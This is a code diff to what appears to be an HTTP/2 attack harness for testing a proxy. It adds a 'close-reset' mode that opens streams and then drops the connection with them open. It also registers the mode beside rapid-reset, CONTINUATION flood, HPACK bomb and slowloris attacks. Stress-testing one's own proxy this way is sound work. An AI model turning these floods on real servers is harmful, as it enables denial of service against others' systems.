@@ -29,6 +29,8 @@ client beside it), not the attacker. NAMEs:
                 WINDOW_UPDATE 0, a stream window overflow, trailers with a
                 pseudo-header (in turn, a kind per batch); reconnects after
                 GOAWAY
+  close-reset   --streams requests to --path on a new connection, closed
+                (TCP) with them open --close-after seconds later, and again
   continuation  HEADERS then endless CONTINUATION frames
   settings-flood, ping-flood
                 frames that each demand an ACK, never reading the ACKs
@@ -209,6 +211,23 @@ def data_after_es(args):
     get = wire.request_block(args.path)
     kinds = [(get, True, lambda sid: wire.frame(wire.DATA, 0, sid, b"x"))]
     two_phase_flood(args, "data-after-es", kinds)
+
+
+def close_reset(args):
+    """On --conns threads: a new connection, --streams requests to --path,
+    and --close-after seconds later (once the proxy sent them upstream) a
+    plain close() with them open (the proxy's unread frames make it a TCP
+    RST), and again."""
+    block = wire.request_block(args.path)
+    first = opening() + b"".join(wire.headers(sid, block) for sid in range(1, 2 * args.streams, 2))
+
+    def session(s, dl, local):
+        if wire.send_some(s, first, min(1.0, max(0.0, dl.left()))) != len(first):
+            return
+        local["sent"] += args.streams
+        time.sleep(min(args.close_after, max(0.0, dl.left())))
+
+    on_threads(args, "close-reset", {"connections": 0, "refused": 0, "sent": 0}, session)
 
 
 def continuation(args):
@@ -595,7 +614,7 @@ ATTACKS = {
     "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "slow-reset": slow_reset, "data-after-es": data_after_es, "hold": hold, "zero-window": zero_window, "idle": idle,
     "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
     "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
-    "busy": busy, "stall": stall, "drip": drip,
+    "busy": busy, "stall": stall, "drip": drip, "close-reset": close_reset,
 }
 
 
@@ -612,6 +631,7 @@ def main():
     ap.add_argument("--no-preface", action="store_true")
     ap.add_argument("--no-read", action="store_true")
     ap.add_argument("--interval", type=float, default=1.0, help="drip: seconds between body bytes")
+    ap.add_argument("--close-after", type=float, default=0.05, help="close-reset: seconds before the close")
     ap.add_argument("--caller-tags", type=int, default=0,
                     help="x-wisp-caller values to send in turn (2: a forged peer sidecar)")
     args = ap.parse_args()
